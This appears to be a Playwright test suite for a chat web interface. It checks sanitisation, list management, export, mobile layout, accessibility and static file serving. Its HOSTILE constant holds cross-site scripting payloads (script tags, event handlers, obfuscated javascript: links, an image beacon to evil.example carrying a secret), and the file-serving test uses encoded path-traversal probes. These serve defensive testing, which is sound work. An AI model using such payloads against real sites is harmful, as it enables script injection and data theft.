"""The page around the turns: hostile text, the list, narrow screens, accessibility, and how its files are served."""

from __future__ import annotations

import asyncio
from typing import TYPE_CHECKING

import httpx2
import pytest
from playwright.async_api import expect
from tests.web.axe import bring_axe, serious
from tests.web.demo import Demo, long_answers, made
from tests.web.test_places import Held

if TYPE_CHECKING:
    from tests.conftest import Server
    from tests.web.conftest import OpenDemo

HOSTILE = """Hello <script>window.stolen = 1</script><img src=x onerror="window.stolen = 2">

<iframe src="https://evil.example/frame"></iframe>
<svg onload="window.stolen = 3"><style>@import "https://evil.example/style"</style></svg>
<form action="https://evil.example"><input name=password></form>

![secret](https://evil.example/picture?secret=1) ![](data:image/png;base64,AAAA)
![x](x"onerror="window.stolen=4)

[go](https://evil.example/page "title") [run](javascript:window.stolen=5) [data](data:text/html,<script>1</script>)
<https://evil.example/auto> [odd](jAvAsCrIpT&#58;window.stolen=6) [vb](vbscript:x) <a href="x" onclick="1">raw</a>

```html"onmouseover="window.stolen=7
<script>window.stolen = 8</script>
```
"""
RICH = """## Shipping

We offer **two** ways, and `express` is the fast one:

| Way | Days | Price |
|---|---|---|
| Standard | 6 to 8 business days, longer in the weeks before the holidays | $6.50 |
| Express | 1 to 2 | $12.90 |

1. Order before noon
2. Look for the *tracking* link at [our page](https://shop.example/track)

```python
def price(express: bool) -> float:  # dollars, and this line is far too long for the screen of any telephone
    return 12.90 if express else 6.50
```

> Free over $85.
"""


async def test_hostile_text_does_nothing(open_demo: OpenDemo, server: Server) -> None:
    """If this fails, whoever can make the model say something can run a script here, or learn what was said."""
    conversation = made(server.url, HOSTILE, HOSTILE, title="<img src=x onerror=window.stolen=9>")
    demo = await open_demo()
    asked: list[str] = []
    demo.page.context.on("request", lambda request: asked.append(request.url))
    demo.page.on("dialog", lambda dialog: demo.problems.append(dialog.message))
    await demo.open(conversation)
    await demo.page.reload()
    await expect(demo.answers).to_have_count(1)
    await demo.page.mouse.move(500, 400)
    assert await demo.page.evaluate("window.stolen") is None
    assert not [url for url in asked if not url.startswith((server.url, "data:image/svg+xml"))]
    assert not await demo.page.locator("#log").locator("script, img, iframe, style, form, input, svg[onload]").count()
    links = demo.answers.locator("a[href]")
    for link in await links.all():
        assert await link.get_attribute("rel") == "noopener nofollow ugc"
        assert await link.get_attribute("target") == "_blank"
    addresses = [await link.get_attribute("href") or "" for link in await links.all()]
    assert "https://evil.example/page" in addresses
    assert all(address.startswith("https://evil.example/") for address in addresses)
    assert "window.stolen = 1" in await demo.answer()  # seen, as the text that it is
    attributes = await demo.page.locator("#log").evaluate(
        "log => [...log.querySelectorAll('*')].flatMap(one => one.getAttributeNames())"
    )
    assert not [name for name in attributes if name.startswith("on") or name == "style"]


@pytest.mark.parametrize("text", ["_call" * 1500, "> " * 5000, "1. " * 2500, "![](" * 1500, "**a `" * 1500])
async def test_text_that_parsers_fear(open_demo: OpenDemo, server: Server, text: str) -> None:
    """If this fails, one answer can freeze the page: it takes time by its length's square, or overflows the stack."""
    demo = await open_demo()
    demo.forgiven = ["status of 400"]  # some are longer than the model's window: then there is no context to show
    await demo.open(made(server.url, "Say it.", text + "\n\nThe end."))
    await demo.page.reload()
    await expect(demo.answers.locator(".body")).to_contain_text("The end.", timeout=10_000)
    assert len(await demo.answer()) > 500


async def test_list(open_demo: OpenDemo, server: Server) -> None:
    """If this fails, conversations cannot be found, named, taken along or got rid of."""
    conversation = made(server.url, "Where are you?", "In Thornby.", title="Zebra crossing")
    demo = await open_demo()
    await demo.page.get_by_role("searchbox", name="Search").fill("zebra")
    await demo.page.get_by_role("link", name="Zebra crossing").click()
    await expect(demo.answers.locator(".body")).to_have_text("In Thornby.")
    await menu(demo, "Rename")
    await demo.page.get_by_label("Title").fill("Address")
    await demo.page.get_by_role("button", name="Rename", exact=True).last.click()
    await expect(demo.page.get_by_role("heading", level=1)).to_have_text("Address")
    address = f"{server.url}/v1/conversations/{conversation}"
    assert httpx2.get(address).json()["metadata"]["title"] == "Address"
    async with demo.page.expect_download() as download:
        await menu(demo, "Export as JSON")
    assert (await download.value).suggested_filename == "Address.json"
    await menu(demo, "Delete")
    await demo.page.get_by_role("dialog").get_by_role("button", name="Cancel").click()
    assert httpx2.get(address).status_code == 200
    await menu(demo, "Delete")
    await demo.page.get_by_role("dialog").get_by_role("button", name="Delete").click()
    await expect(demo.page.get_by_role("heading", name="How can I help?")).to_be_visible()
    assert httpx2.get(address).status_code == 404
    await demo.page.get_by_role("searchbox", name="Search").fill("address")
    await expect(demo.page.locator("#list")).to_have_text("Nothing found")


async def delete(demo: Demo) -> None:
    await menu(demo, "Delete")
    await demo.page.get_by_role("dialog").get_by_role("button", name="Delete").click()


async def test_a_list_that_comes_late(open_demo: OpenDemo, server: Server) -> None:
    """If this fails, a conversation that was begun while the list was on its way is missing in it, or one that was
    deleted meanwhile is in it again."""
    old = made(server.url, "Hi!", "Hello.", title="Soon deleted")
    demo = await open_demo()
    listed = demo.page.locator("#list a")
    await expect(listed.filter(has_text="Soon deleted")).to_have_count(1)
    for change in ("begin", "delete"):
        if change == "delete":
            await demo.page.goto(f"{server.url}/#{old}")
            await expect(demo.answers.locator(".body")).to_have_text("Hello.")  # another answer was there before
        held = await Held("GET", "/v1/conversations?limit", late=True).on(demo.page)
        await demo.page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
        await held.came.wait()
        if change == "begin":
            await demo.send("Is the list on its way?")
            await demo.settle(1)
        else:
            await delete(demo)
            await expect(listed.filter(has_text="Soon deleted")).to_have_count(0)
        async with demo.page.expect_response("**/v1/conversations?limit*"):
            held.free.set()
        await demo.page.wait_for_timeout(300)
        await expect(listed.filter(has_text="Is the list on its way?")).to_have_count(1)
        await expect(listed.filter(has_text="Soon deleted")).to_have_count(int(change == "begin"))
        await demo.page.unroute_all(behavior="wait")


async def test_deleting_while_an_answer_runs(open_demo: OpenDemo, server: Server) -> None:
    """If this fails, a conversation that could not be deleted is dead: its answer cannot be stopped, and nothing sent.
    Or one that was deleted is said not to be found."""
    demo = await open_demo(script=long_answers(1500))
    demo.forgiven = ["status of 503", "status of 404"]
    refusal = {"error": {"code": "unavailable", "message": "the server is starting"}}
    notice = demo.page.locator("#notice")
    with server.held():
        await demo.send("Tell me everything.")
        await demo.grown(80, server)
        await demo.page.route("**/v1/conversations/*", lambda route: route.fulfill(status=503, json=refusal), times=1)
        await delete(demo)
        await expect(notice).to_contain_text("starting")
        await demo.stop()
        await demo.settle(1)
        await expect(demo.answers.last).to_contain_text("Stopped.")
        await demo.send("And what else?")
        await demo.grown(80, server)
        said = await notice.text_content()
        await delete(demo)
        await expect(demo.page.get_by_role("heading", name="How can I help?")).to_be_visible()
    await demo.page.wait_for_timeout(300)
    assert await notice.text_content() == said
    assert "frontdesk.turn" not in await demo.page.evaluate("Object.keys(localStorage).join()")


async def test_markdown_export(open_demo: OpenDemo, server: Server) -> None:
    """If this fails, a conversation cannot be taken along as text, or not all of it."""
    demo = await open_demo(made(server.url, "How do you ship?", RICH, title="Ways to ship"))
    await expect(demo.answers).to_have_count(1)
    async with demo.page.expect_download() as downloading:
        await menu(demo, "Export as Markdown")
    download = await downloading.value
    assert download.suggested_filename == "Ways-to-ship.md"
    text = await asyncio.to_thread((await download.path()).read_text)
    assert "How do you ship?" in text
    said = [line.removeprefix(">").removeprefix(" ") for line in text.splitlines()]  # each message is a quotation
    assert RICH.strip() in "\n".join(said)


async def test_choosing_a_model(open_demo: OpenDemo) -> None:
    """If this fails, the model that a person chose is not the one that is asked, or is forgotten by a reload."""
    demo = await open_demo()
    two = [{"id": id, "object": "model", "created": 0, "owned_by": "frontdesk"} for id in ("first", "second")]
    listed = {"object": "list", "data": two}
    await demo.page.route("**/v1/models", lambda route: route.fulfill(json=listed))
    refusal = {"error": {"code": "model_not_found", "message": "there is no such model"}}
    await demo.page.route("**/v1/responses", lambda route: route.fulfill(status=404, json=refusal))
    demo.forgiven = ["status of 404"]
    await demo.page.reload()
    await expect(demo.page.locator("#served")).to_have_text("first")
    await demo.page.get_by_role("button", name="Settings").click()
    await demo.page.get_by_label("Model").select_option("second")
    await demo.page.get_by_role("button", name="Save").click()
    for _ in range(2):
        await expect(demo.page.locator("#served")).to_have_text("second")
        async with demo.page.expect_request("**/v1/responses") as asking:
            await demo.send("When are you open?")
        asked = (await asking.value).post_data_json
        assert asked
        assert asked["model"] == "second"
        await expect(demo.answers.last).to_contain_text("no such model")
        await demo.page.reload()


async def menu(demo: Demo, entry: str) -> None:
    await demo.page.get_by_role("button", name="More", exact=True).click()
    await demo.page.locator("#menu").get_by_role("button", name=entry).click()


async def test_a_long_conversation(open_demo: OpenDemo, server: Server) -> None:
    """If this fails, the beginning of a long conversation cannot be read, or what the model has lost is not said."""
    texts = [f"Line {number}: {'many words ' * 12}" for number in range(150)]
    demo = await open_demo(made(server.url, *texts))
    messages = demo.page.locator(".message")
    await expect(messages).to_have_count(100)
    await expect(messages.last).to_be_in_viewport()
    await expect(messages.first).to_contain_text("No longer sent to the model")
    await demo.page.get_by_role("button", name="earlier messages").click()
    await expect(messages).to_have_count(150)
    shown = await messages.locator(".body").all_inner_texts()
    assert [text.split(":")[0] for text in shown] == [f"Line {number}" for number in range(150)]
    await demo.page.locator("#meter").click()
    await expect(demo.page.locator("#meter-panel")).to_contain_text("left out")


TWICE = "button => { button.click(); button.click(); }"


async def test_earlier_messages_come_once(open_demo: OpenDemo, server: Server) -> None:
    """If this fails, an impatient reader sees the same messages twice, or with a gap in front of them."""
    texts = [f"Line {number}" for number in range(250)]
    conversation = made(server.url, *texts)
    demo = await open_demo(conversation)
    messages, bodies = demo.page.locator(".message"), demo.page.locator(".message .body")
    earlier = demo.page.get_by_role("button", name="earlier messages")
    await expect(messages).to_have_count(100)
    await earlier.evaluate(TWICE)
    await expect(messages).to_have_count(200)
    await demo.page.wait_for_timeout(300)
    await expect(bodies).to_have_text(texts[50:])
    held = await Held("GET", conversation, "after=").on(demo.page)
    await earlier.evaluate("button => button.click()")
    await held.came.wait()
    ended = f"new StorageEvent('storage', {{key: 'frontdesk.turn.{conversation}', storageArea: localStorage}})"
    await demo.page.evaluate(f"dispatchEvent({ended})")  # another tab's: everything is read again
    await expect(messages).to_have_count(100)
    async with demo.page.expect_response(lambda answer: "after=" in answer.url):
        held.free.set()
    await demo.page.wait_for_timeout(300)
    await expect(bodies).to_have_text(texts[150:])


async def test_phone(open_demo: OpenDemo, server: Server) -> None:
    """If this fails, the page scrolls sideways on a phone, or its list covers it for good."""
    demo = await open_demo(made(server.url, "How do you ship?" * 9, RICH), viewport={"width": 360, "height": 740})
    await expect(demo.answers).to_have_count(1)
    assert await sideways(demo) == 0
    await demo.page.get_by_role("button", name="Conversations").click()
    await demo.page.get_by_role("button", name="New conversation").click()
    await expect(demo.page.get_by_role("heading", name="How can I help?")).to_be_in_viewport()
    await expect(demo.page.locator("#side")).to_be_hidden()
    assert await sideways(demo) == 0
    await demo.send("When are you open?")
    await demo.settle(1)
    assert await sideways(demo) == 0


async def sideways(demo: Demo) -> int:
    """Pixels by which the page or the conversation is wider than its window."""
    return await demo.page.evaluate(
        "Math.max(...[document.documentElement, document.getElementById('scroll')]"
        ".map(one => one.scrollWidth - one.clientWidth))"
    )


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_accessibility(open_demo: OpenDemo, server: Server, scheme: str) -> None:
    """If this fails, somebody who cannot see, point or tell faint colours apart cannot use a part of the page."""
    conversation = made(server.url, "How do you ship?", RICH)
    demo = await open_demo(conversation, color_scheme=scheme, reduced_motion="reduce", bypass_csp=True)
    await expect(demo.answers).to_have_count(1)
    await bring_axe(demo.page)
    assert await serious(demo.page) == []
    await demo.page.locator("#meter").click()
    assert await serious(demo.page) == []
    await demo.page.keyboard.press("Escape")
    await demo.page.get_by_role("button", name="Settings").click()
    assert await serious(demo.page) == []


async def test_screen_readers_hear_sentences(open_demo: OpenDemo) -> None:
    """If this fails, a screen reader reads single tokens, or nothing."""
    demo = await open_demo()
    await demo.page.evaluate(
        "window.heard = [];"
        "new MutationObserver(() => window.heard.push(document.getElementById('live').textContent))"
        ".observe(document.getElementById('live'), {childList: true})"
    )
    await demo.send("When are you open on Saturday?")
    await demo.settle(1)
    heard = await demo.page.evaluate("window.heard")
    assert " ".join(heard) == " ".join((await demo.answer()).split())  # in one piece or, when it takes long, in more
    assert all(text.endswith(".") for text in heard)
    assert await demo.page.get_by_role("log").get_attribute("aria-live") == "off"


def test_files(server: Server) -> None:
    """If this fails, the page is stale after an update, is sent whole each time, or may run what it did not bring."""
    page = httpx2.get(server.url + "/")
    policy = page.headers["content-security-policy"]
    assert "default-src 'none'; script-src 'self'; style-src 'self';" in policy
    assert "unsafe" not in policy
    assert f"ws://127.0.0.1:{server.port}" in policy
    for name in ("demo.js", "theme.js", "style.css"):
        assert f"/demo/{name}" in page.text
        whole = httpx2.get(f"{server.url}/demo/{name}", headers={"accept-encoding": "identity"})
        packed = httpx2.get(f"{server.url}/demo/{name}", headers={"accept-encoding": "gzip"})
        assert packed.headers["content-encoding"] == "gzip"
        assert packed.text == whole.text
        known = httpx2.get(f"{server.url}/demo/{name}", headers={"if-none-match": whole.headers["etag"]})
        assert (known.status_code, known.content) == (304, b"")
    for name in ("nothing.js", "..%2f..%2fpyproject.toml", "%2e%2e/index.html"):
        assert httpx2.get(f"{server.url}/demo/{name}").status_code == 404
